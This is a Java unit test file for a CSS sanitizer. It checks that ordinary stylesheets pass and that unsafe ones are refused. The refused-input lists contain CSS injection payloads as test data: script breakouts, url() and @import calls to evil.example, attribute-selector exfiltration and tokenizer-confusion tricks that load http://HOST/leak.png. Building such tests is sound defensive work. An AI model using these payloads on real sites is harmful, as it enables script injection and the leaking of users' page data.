package dev.vestibule.project.branding;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import dev.vestibule.error.InvalidValueException;
import dev.vestibule.json.Fields;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class StyleCheckTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "button { color: #fff; border-radius: 4px }",
                ".a > .b ~ p::before { content: \"a { b\"; margin: calc(100% - 2 * var(--x)) }",
                "/* a comment with ' and { */ a{color:red}",
                "@media (min-width: 30em) and (hover: hover) { a:hover { opacity: .5 } }",
                "@font-face { font-family: x; src: url(data:font/woff2;base64,AAAA) format('woff2') }",
                "@font-face { font-family: x; src: local('Helvetica') }",
                "a { background: URL( 'data:image/svg+xml;base64,AAAA' ) no-repeat }",
                "/* from https://example.com */ a { color: red }",
                "a { content: 'https://example.com' }",
                "a { background: url(\"data:image/png;base64,iVBORw0KGgo=\") }",
                "@keyframes in { from { opacity: 0 } to { opacity: 1 } }",
                "@supports (display: grid) { a { display: grid } }\n\tb { grid-area: 1 / 2 }\r\n",
                "input[type='email'], :is(h1, h2) { background: linear-gradient(90deg, red, blue) }",
                ".card { &:hover { color: oklch(60% .1 200 / 50%) } }",
                "p::after { content: '\u2192 \uc548\ub155' }",
                "a { width: 50%; --x: !important }"
            })
    void ordinaryStylesAreAccepted(String css) {
        assertThat(StyleCheck.css(css)).isEqualTo(css);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "</style><script>alert(1)</script>",
                "<!--",
                "a { content: '</style>' }",
                "/* </style> */",
                "@import url(https://evil.example/x.css);",
                "@IMPORT 'https://evil.example/x.css';",
                "@charset 'utf-7';",
                "@namespace url(https://evil.example);",
                "@document url(https://evil.example) {}",
                "@ import 'x'",
                "@\u0131mport 'x'",
                "@{}",
                "a { background: url(http://evil.example/x) }",
                "a { background: url(https://evil.example/x.png) }",
                "a { background: URL( 'https://evil.example/a.png?b=c' ) no-repeat }",
                "a { background: url(\"HTTPS://evil.example/x.png\") }",
                "a { background: url(/**/https://evil.example/x.png) }",
                "a { background: u/**/rl(https://evil.example/x.png }",
                "@font-face { font-family: x; src: url(https://fonts.example.com/x.woff2) format('woff2') }",
                "a { background: cross-fade(url(https://evil.example/x), red) }",
                "a { background: -webkit-cross-fade(url(https://evil.example/x), url(data:image/png;base64,AAAA), 50%) }",
                "a { background: image-set(url(https://evil.example/x) 1x) }",
                "a { cursor: url(https://evil.example/x), auto }",
                "a { filter: url(https://evil.example/x.svg#f) }",
                "a { --x: url(https://evil.example/x) }",
                "input[value^=a] { background: url(https://evil.example/a) }",
                "a { background: url(//evil.example/x) }",
                "a { background: url(x.png) }",
                "a { background: url('javascript:alert(1)') }",
                "a { background: url(data:text/html;base64,AAAA) }",
                "a { background: url(data:image/pngx;base64,AAAA) }",
                "a { background: url( \n javascript:x) }",
                "a { background: url(https://a.example/x'y) }",
                "a { background: url('https://a.example/x) }",
                "a { background: url(https://a.example/x }",
                "a { background: u\\72l(https://evil.example/x) }",
                "a { background: \\75 rl(x) }",
                "a { background: url-prefix(https://evil.example) }",
                "a { background: image-set('https://evil.example/x' 1x) }",
                "a { background: -webkit-image-set('https://evil.example/x' 1x) }",
                "a { background: image('https://evil.example/x') }",
                "a { background: src('https://evil.example/x') }",
                "a { width: expression(alert(1)) }",
                "a { behavior: url(https://evil.example/x.htc) }",
                "a { -MOZ-BINDING: url(https://evil.example/x) }",
                "a { color: red",
                "a { color: red } }",
                "a { color: rgb(1, 2, 3 }",
                "a[b { color: red }",
                "a { content: 'unclosed }",
                "a { content: \"two\nlines\" }",
                "/* unclosed",
                "a { color: red } /*/",
                "a { color: red }\u0000",
                "a { color: red }\u2028",
                "a { color: red }\f",
                "a { content: '\ud800' }"
            })
    void whatCouldRunLoadOrBreakOutIsRefused(String css) {
        assertThatThrownBy(() -> StyleCheck.css(css)).isInstanceOf(InvalidValueException.class);
    }

    /** If a checker and a browser see different tokens, the browser loads what the checker reads as text. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "#url(data:image/png,/*) \" */ ) {} body{background-image:url(http://HOST/leak.png)} /* \"{}",
                "\u00e9url(data:image/png,/*) \" */ ) {} body{background-image:url(http://HOST/leak.png)} /* \"{}",
                "#url(data:image/png;base64,/*) \" */ ) {} body{background-image:url(http://HOST/x)} /* \"{}",
                "\ud83d\ude00url(data:image/png,/*) \" */ ) {} a{b:url(http://HOST/x)} /* \"{}",
                "#url(data:image/png;base64,AAAA)",
                "\u00b7url(data:image/png;base64,AAAA)",
                "a { background: \u00e9url(https://evil.example/x) }",
                "a { background: @\u00e9url(https://evil.example/x) }",
                "a { background: url(data:image/png,/*) }",
                "a { background: url(data:image/png,AAAA) }",
                "a { background: url(data:image/png;base64,AA/*AA) }",
                "a { background: url(data:image/png;base64,AA{AA) }",
                "a { background: url(data:image/png;base64,\u00e9) }",
                "a { background: url(\"data:image/png;base64,AAAA') }",
                "a { background: url(\"data:image/png;base64,AAAA) }",
                "a { background: url(data:image/png;base64,AAAA\") }",
                "a { background: url(\"data:image/png;base64,AAAA\" format(x)) }",
                "a { background: url(data:image/png;base64,AAAA }",
                "@media\u00e9 {}",
                "\u00e9@import 'x'",
                "a { -\u00e9url: 1; b: -url(https://evil.example/x) }",
                "a { b: 1url(https://evil.example/x) }",
                "a { behavior\u200b: 1 } b { behavior: 1 }"
            })
    void whatABrowserReadsDifferentlyIsRefused(String css) {
        assertThatThrownBy(() -> StyleCheck.css(css)).isInstanceOf(InvalidValueException.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "#caf\u00e9 .\ud55c\uad6d\uc5b4 { color: #a1b2c3; --gr\u00f6\u00dfe: 1px }",
                "\u00e9l\u00e9ment:not(#id) { width: calc(1px + 2%) }",
                "#a#b { margin: -1px -.5em +2px; color: #fff }",
                "a { background: url(data:image/png;base64,//+/AA==) }",
                "a { background: url( \n\"data:image/svg+xml;base64,AAAA\"\t) }",
                "p::after { content: 'it /* is */ text' }"
            })
    void namesOfAnyScriptAreAccepted(String css) {
        assertThat(StyleCheck.css(css)).isEqualTo(css);
    }

    @Test
    void aMessageSaysWhatIsWrong() {
        assertThatThrownBy(() -> StyleCheck.css("@import 'x';")).hasMessageStartingWith("must not use at-rules other");
        assertThatThrownBy(() -> StyleCheck.css("a{")).hasMessageContaining("is closed");
    }

    @Test
    void longStylesAreCheckedAtOnceAndTooLongOnesRefused() {
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
            for (var piece : new String[] {
                "/*", "(", "url(", "'", "-", "a", " ", "a(", "/* */", "https://", "\u0130", "#", "@\u0130"
            }) {
                try {
                    StyleCheck.css(piece.repeat(20_000 / piece.length()));
                } catch (InvalidValueException refused) {
                    // only the time counts here
                }
            }
        });
        assertThat(StyleCheck.css(" ".repeat(20_000))).hasSize(20_000);
        var body = JsonNodeFactory.instance.objectNode().put("customCss", " ".repeat(20_001));
        assertThatThrownBy(() -> Fields.read(body, fields -> fields.required("customCss", StyleCheck.CSS)))
                .hasMessage("customCss must have at most 20000 characters");
    }
}
